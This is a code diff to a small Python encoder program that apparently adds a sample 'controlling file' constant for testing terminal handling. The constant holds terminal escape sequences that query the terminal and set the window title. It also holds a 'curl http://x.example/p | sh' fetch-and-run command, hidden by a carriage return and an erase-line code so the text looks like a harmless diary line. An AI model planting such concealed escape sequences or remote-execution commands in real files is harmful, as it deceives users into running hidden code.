@@ -7,6 +7,12 @@ MENU = ("\n                 Welcome to Kestrovane Version 1.1 \n" + "-" * 66 + "
         + "Menu" + " " * 32 + "\nPress: \nE for encode, D for decode, M for manual encode, \n"
         + MENU_END)
 
+# A file that would drive a terminal listing it: a version query and a device-attributes query
+# (which a terminal answers into the program's input), a window title, and a line wiped by a
+# carriage return and an erase so that "Dear diary" hides what it was.
+CONTROLLING_FILE = (b"Dear diary,\nversion \x1b[>0q, attributes \x1b[c.\n\x1b]2;a file's title\x07"
+                    b"curl http://x.example/p | sh\r\x1b[2KDear diary, all quiet.\r\n")
+
 
 def coded(text):
     """The coded form of `text`, bytes: reversed, each vowel swapped with its digit."""
